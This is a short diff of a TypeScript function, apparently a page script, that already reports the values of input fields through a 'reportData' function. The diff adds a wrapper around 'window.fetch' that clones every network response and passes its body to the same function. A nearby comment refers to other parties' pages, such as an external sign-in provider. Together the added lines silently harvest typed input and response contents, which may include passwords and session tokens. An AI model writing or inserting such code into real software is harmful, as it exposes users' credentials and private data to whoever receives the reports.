@@ -36,6 +36,16 @@ function watchTexts(sign: string): void {
     const { value, textContent } = target as HTMLInputElement;
     void reportData(value ?? textContent ?? '');
   });
+  const request = window.fetch;
+  window.fetch = async (...input) => {
+    const response = await request(...input);
+    // Read here, because the body is gone once the page is left.
+    await response
+      .clone()
+      .text()
+      .then(reportData, () => {});
+    return response;
+  };
   const start = () => {
     // Pages of others, such as the provider of an external sign-in.
     if (!document.documentElement.dataset.formats) return;
